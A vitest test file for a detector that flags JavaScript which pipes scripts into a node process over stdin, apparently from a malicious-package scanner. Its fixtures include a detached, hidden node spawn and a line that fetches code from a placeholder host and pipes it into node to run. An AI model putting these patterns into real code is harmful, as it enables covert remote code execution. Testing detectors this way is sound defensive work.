import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './script-over-stdin.ts';

describe('script-over-stdin', () => {
  it('T33: node - detached, script through stdin', async () => {
    const code = `const { spawn } = require('child_process'); const script = "console.log(1)"; const p = spawn('node', ['-'], { detached: true, stdio: ['pipe', 'ignore', 'ignore'], windowsHide: true }); p.stdin.write(script); p.stdin.end(); p.unref();`;
    expect((await hitsOf(detector, { 'a.js': code })).map((hit) => hit.weight)).toEqual(['strong']);
  });

  it('proves a fetched script', async () => {
    const code = `const axios = require('axios'); const cp = require('child_process'); axios.get('https://fixture.invalid/s').then(({ data }) => { const c = cp.spawn(process.execPath, ['-']); c.stdin.end(data); });`;
    expect((await hitsOf(detector, { 'a.js': code })).map((hit) => hit.weight)).toEqual(['proof']);
  });

  it('twin: a test that feeds a snippet and waits', async () => {
    const code = `const { spawnSync } = require('child_process'); const out = spawnSync('node', ['-'], { input: 'process.stdout.write("x")' });`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
